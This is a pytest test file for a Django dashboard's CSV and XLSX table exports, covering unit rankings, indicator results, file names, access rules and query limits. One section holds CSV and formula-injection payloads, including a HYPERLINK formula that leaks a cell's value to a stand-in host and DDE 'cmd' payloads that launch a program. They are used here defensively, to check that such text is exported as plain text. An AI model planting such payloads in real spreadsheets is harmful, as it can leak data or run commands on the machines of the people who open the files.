"""Dashboard downloads: every table of the overview, unit and indicator pages as .xlsx and CSV.

Same figures as test_dashboards.py (see its docstring): February, VP 16,5/20 = 82,5% rank 1,
KTHTDT 14/20 = 70% rank 2 (was 1 in January), VHXH no February report.
"""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from core.table_export import BOM, Table, ascii_name, table_response, to_csv, to_xlsx
from emulation.tests.test_dashboards import _fill


def download(client, user, name, params, **kwargs):
    client.force_login(user)
    return client.get(reverse(name, kwargs=kwargs), params)


def overview_file(client, user, campaign, bang, fmt="csv", ky="2026-02"):
    return download(client, user, "emulation:score-overview", {"ky": ky, "bang": bang, "xuat": fmt}, code=campaign.code)


def csv_rows(response) -> list[list[str]]:
    body = response.content
    assert body.startswith(BOM.encode("utf-8"))
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_rows(response) -> list[tuple]:
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return list(sheet.iter_rows(values_only=True))


# ---------------------------------------------------------------- the pure writer


TABLE = Table(
    "Xếp hạng - Tháng 02/2026",
    ["Hạng", "Đơn vị", "Điểm quy đổi (%)", "Tổng điểm"],
    [[1, "Văn phòng", Decimal("82.50"), Decimal("16.5")], [None, "Phòng Văn hóa – Xã hội", None, Decimal("0.00")]],
)


def test_csv_has_a_bom_dot_decimals_and_empty_cells_for_no_value():
    data = to_csv(TABLE)
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text.splitlines() == [
        "Hạng,Đơn vị,Điểm quy đổi (%),Tổng điểm",
        "1,Văn phòng,82.5,16.5",
        ",Phòng Văn hóa – Xã hội,,0",
    ]


def test_xlsx_keeps_numbers_as_numbers_with_a_bold_header():
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(TABLE)))
    sheet = book.active
    assert sheet.title == "Xếp hạng - Tháng 02 2026"  # "/" is not allowed in a sheet name
    assert sheet["A1"].value == "Xếp hạng - Tháng 02/2026"
    assert [c.value for c in sheet[2]] == TABLE.headers
    assert all(c.font.bold for c in sheet[2])
    assert [c.value for c in sheet[3]] == [1, "Văn phòng", 82.5, 16.5]
    assert isinstance(sheet["C3"].value, float) and sheet["C4"].value is None and sheet["D4"].value == 0
    assert sheet.column_dimensions["B"].width >= len("Phòng Văn hóa – Xã hội")
    assert sheet.freeze_panes == "A3"


def test_file_names_are_ascii():
    assert ascii_name("xep-hang-CCHC-2026-Tháng 02/2026 Đạt") == "xep-hang-CCHC-2026-Thang-02-2026-Dat"
    response = table_response(TABLE, "xlsx", "Điểm đơn vị")
    assert response["Content-Disposition"] == 'attachment; filename="Diem-don-vi.xlsx"'
    with pytest.raises(ValueError):
        table_response(TABLE, "pdf", "x")


# A13: what a person typed reaches the reader as those characters, never as a formula (OWASP's starts).
FORMULA_LIKE = [
    '=HYPERLINK("http://x?leak="&B3,"bấm")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.mark.parametrize("typed", FORMULA_LIKE, ids=["equals", "plus", "minus", "at", "tab"])
def test_a_text_that_looks_like_a_formula_is_written_as_text(typed):
    table = Table(typed, ["Đơn vị", typed], [[typed, Decimal("-1.5")]])
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(table))).active
    for cell in (sheet["A1"], sheet["B2"], sheet["A3"]):
        assert cell.data_type == "s" and cell.value == typed and cell.quotePrefix
    assert sheet["B3"].data_type == "n" and sheet["B3"].value == -1.5  # a number stays a number
    rows = list(csv.reader(io.StringIO(to_csv(table, title=True).decode("utf-8-sig"))))
    assert rows == [[f"'{typed}"], ["Đơn vị", f"'{typed}"], [f"'{typed}", "-1.5"]]


# ---------------------------------------------------------------- overview tables


def test_ranking_exports_to_xlsx_with_numbers(client, scored, sam):
    response = overview_file(client, sam, scored, "xep-hang", "xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"] == 'attachment; filename="xep-hang-CCHC-2026-2026-02.xlsx"'
    rows = xlsx_rows(response)
    assert rows[0][0] == "Xếp hạng - Tháng 02/2026"
    assert rows[1] == (
        "Hạng",
        "Mã đơn vị",
        "Đơn vị",
        "Tổng điểm",
        "Điểm tối đa",
        "Điểm quy đổi (%)",
        "So với tháng 01/2026",
    )
    by_unit = {row[1]: row for row in rows[2:]}
    assert by_unit["VP"][0] == 1 and by_unit["VP"][3:6] == (16.5, 20, 82.5)
    assert by_unit["KTHTDT"][0] == 2 and by_unit["KTHTDT"][5] == 70 and by_unit["KTHTDT"][6] == "giảm 1 bậc"
    assert by_unit["VHXH"][0] is None and by_unit["VHXH"][3:6] == (None, None, None)


def test_ranking_exports_to_csv(client, scored, sam):
    response = overview_file(client, sam, scored, "xep-hang", "csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = csv_rows(response)
    assert rows[0][:3] == ["Hạng", "Mã đơn vị", "Đơn vị"]
    assert rows[1][:2] == ["1", "VP"] and rows[1][3:6] == ["16.5", "20", "82.5"]
    assert rows[2][:2] == ["2", "KTHTDT"] and rows[2][5] == "70"


def test_heatmap_exports_value_and_result_per_indicator(client, scored, sam):
    rows = csv_rows(overview_file(client, sam, scored, "dat-chua-dat"))
    header = rows[0]
    vp = dict(zip(header, next(r for r in rows if r[0] == "VP"), strict=True))
    assert vp["1.2a - giá trị"] == "50" and vp["1.2a - kết quả"] == "Chưa đạt"
    assert vp["1.1 - giá trị"] == "9" and vp["1.1 - kết quả"] == "Đạt"
    vhxh = dict(zip(header, next(r for r in rows if r[0] == "VHXH"), strict=True))
    assert vhxh["1.2a - giá trị"] == "" and vhxh["1.2a - kết quả"] == "Không có số liệu"
    book = xlsx_rows(overview_file(client, sam, scored, "dat-chua-dat", "xlsx"))
    vp_row = dict(zip(book[1], next(r for r in book[2:] if r[0] == "VP"), strict=True))
    assert vp_row["1.2a - giá trị"] == 50 and vp_row["1.2a - kết quả"] == "Chưa đạt"


def test_under_target_list_exports_one_row_per_unit_and_indicator(client, scored, sam):
    rows = csv_rows(overview_file(client, sam, scored, "chua-dat"))
    assert rows[0] == ["Mã đơn vị", "Đơn vị", "Mã chỉ tiêu", "Tên chỉ tiêu", "Giá trị", "Chỉ tiêu phấn đấu"]
    assert {(r[0], r[2], r[4], r[5]) for r in rows[1:]} == {
        ("VP", "1.2a", "50", "≥ 100%"),
        ("KTHTDT", "1.2a", "80", "≥ 100%"),
        ("KTHTDT", "1.5c", "40", "Tăng so với kỳ trước"),
    }


def test_unit_head_exports_every_rank_but_only_their_own_heatmap(client, scored, alice):
    ranking = csv_rows(overview_file(client, alice, scored, "xep-hang"))
    assert {r[1] for r in ranking[1:]} >= {"VP", "KTHTDT", "VHXH"}
    heatmap = csv_rows(overview_file(client, alice, scored, "dat-chua-dat"))
    assert [r[0] for r in heatmap[1:]] == ["VP"]
    under = csv_rows(overview_file(client, alice, scored, "chua-dat"))
    assert {r[0] for r in under[1:]} == {"VP"}


def test_overview_exports_refuse_what_the_page_refuses(client, scored, olga, sam):
    assert overview_file(client, olga, scored, "xep-hang").status_code == 404
    assert overview_file(client, sam, scored, "khong-co").status_code == 404
    assert overview_file(client, sam, scored, "xep-hang", "pdf").status_code == 404
    client.logout()
    url = reverse("emulation:score-overview", kwargs={"code": scored.code})
    assert client.get(url, {"xuat": "csv"}).status_code == 302


def test_export_of_a_bad_period_is_refused_with_the_message(client, scored, sam):
    response = overview_file(client, sam, scored, "xep-hang", ky="2026-13")
    assert response.status_code == 400
    assert "Tháng không hợp lệ" in response.content.decode()


def test_export_without_accepted_reports_is_404(client, campaign, sam):
    assert overview_file(client, sam, campaign, "xep-hang", ky="").status_code == 404


# ---------------------------------------------------------------- unit and indicator tables


def unit_file(client, user, campaign, unit, bang, fmt="csv", ky=None):
    params = {"bang": bang, "xuat": fmt} | ({"ky": ky} if ky else {})
    return download(client, user, "emulation:score-unit", params, code=campaign.code, unit_code=unit)


def test_unit_points_by_criterion_export(client, scored, sam):
    response = unit_file(client, sam, scored, "VP", "theo-tieu-chi", "xlsx")
    assert response["Content-Disposition"] == 'attachment; filename="theo-tieu-chi-CCHC-2026-VP-2026-02.xlsx"'
    rows = xlsx_rows(response)
    assert rows[1] == ("Mã tiêu chí", "Tiêu chí", "Điểm", "Điểm tối đa", "Tỷ lệ (%)")
    by_code = {r[0]: r for r in rows[2:]}
    assert by_code["1.1"][2:] == (9, 10, 90)
    assert by_code["1.2"][2:] == (2.5, 5, 50)
    assert by_code["Tổng"][2:] == (16.5, 20, 82.5)
    quarter = csv_rows(unit_file(client, sam, scored, "VP", "theo-tieu-chi", ky="2026-Q1"))
    assert next(r for r in quarter if r[0] == "1.2")[2:4] == ["3.17", "5"]


def test_unit_months_export_has_one_row_per_indicator_and_month(client, scored, sam):
    rows = csv_rows(unit_file(client, sam, scored, "VP", "theo-thang"))
    assert rows[0] == [
        "Mã chỉ tiêu",
        "Tên chỉ tiêu",
        "Tháng",
        "Giá trị",
        "Chỉ tiêu phấn đấu",
        "Kết quả",
        "Điểm",
        "Điểm tối đa",
    ]
    ratio = [(r[2], r[3], r[4], r[5], r[6], r[7]) for r in rows if r[0] == "1.2a"]
    assert ratio == [
        ("01/2026", "90", "≥ 100%", "Chưa đạt", "4.5", "5"),
        ("02/2026", "50", "≥ 100%", "Chưa đạt", "2.5", "5"),
    ]
    book = xlsx_rows(unit_file(client, sam, scored, "VP", "theo-thang", "xlsx"))
    assert [r[3] for r in book[2:] if r[0] == "1.2a"] == [90, 50]


def test_unit_exports_follow_the_unit_permission(client, scored, alice, bob):
    assert unit_file(client, alice, scored, "VP", "theo-thang").status_code == 200
    assert unit_file(client, alice, scored, "KTHTDT", "theo-thang").status_code == 404
    assert unit_file(client, bob, scored, "VP", "theo-tieu-chi", "xlsx").status_code == 404


def test_indicator_export_has_one_row_per_unit_and_month(client, scored, sam, alice):
    params = {"xuat": "csv"}
    kwargs = {"code": scored.code, "indicator_code": "1.2a"}
    response = download(client, sam, "emulation:score-indicator", params, **kwargs)
    assert response["Content-Disposition"] == 'attachment; filename="theo-don-vi-CCHC-2026-chi-tieu-1.2a.csv"'
    rows = csv_rows(response)
    assert rows[0][:4] == ["Mã đơn vị", "Đơn vị", "Tháng", "Giá trị"]
    values = {(r[0], r[2]): (r[3], r[5]) for r in rows[1:]}
    assert values["VP", "01/2026"] == ("90", "Chưa đạt")
    assert values["KTHTDT", "01/2026"] == ("100", "Đạt")
    assert values["KTHTDT", "02/2026"] == ("80", "Chưa đạt")
    assert {unit for unit, _ in values} >= {"VP", "KTHTDT", "VHXH"}
    own = csv_rows(download(client, alice, "emulation:score-indicator", params, **kwargs))
    assert {r[0] for r in own[1:]} == {"VP"}
    book = xlsx_rows(download(client, sam, "emulation:score-indicator", {"xuat": "xlsx"}, **kwargs))
    assert next(r for r in book[2:] if r[0] == "KTHTDT")[3] == 100


# ---------------------------------------------------------------- query bounds


@pytest.mark.parametrize(("units", "months"), [(2, 1), (5, 6)])
@pytest.mark.parametrize("persona", ["sam", "alice"])
def test_export_queries_do_not_grow(
    client, campaign, ward, personas, units, months, persona, django_assert_max_num_queries
):
    _fill(campaign, ward, personas["sam"], units, months)
    client.force_login(personas[persona])
    overview = reverse("emulation:score-overview", kwargs={"code": campaign.code})
    unit = reverse("emulation:score-unit", kwargs={"code": campaign.code, "unit_code": "VP"})
    indicator = reverse("emulation:score-indicator", kwargs={"code": campaign.code, "indicator_code": "1.2a"})
    downloads = [(overview, {"bang": b}) for b in ("xep-hang", "dat-chua-dat", "chua-dat")]
    downloads += [(unit, {"bang": b}) for b in ("theo-tieu-chi", "theo-thang")] + [(indicator, {})]
    for url, params in downloads:
        for fmt in ("csv", "xlsx"):
            with django_assert_max_num_queries(12):
                response = client.get(url, params | {"xuat": fmt})
            assert response.status_code == 200, (url, params, fmt)
    rows = csv_rows(client.get(unit, {"bang": "theo-thang", "xuat": "csv"}))
    # The months exported are those up to the latest accepted report.
    assert {r[2] for r in rows[1:]} == {f"{m:02d}/2026" for m in range(1, months + 1)}


def test_dashboard_downloads_write_a_formula_like_name_as_text(client, scored, sam):
    from units.models import Unit

    typed = '=HYPERLINK("http://x?leak="&B3,"bấm")'
    Unit.objects.filter(code="VP").update(short_name=typed)
    sheet = openpyxl.load_workbook(io.BytesIO(overview_file(client, sam, scored, "xep-hang", "xlsx").content)).active
    cells = [row[2] for row in sheet.iter_rows(min_row=3) if row[1].value == "VP"]
    assert len(cells) == 1 and cells[0].data_type == "s" and cells[0].value == typed
    rows = csv_rows(overview_file(client, sam, scored, "xep-hang", "csv"))
    assert [row[2] for row in rows if row[1] == "VP"] == [f"'{typed}"]
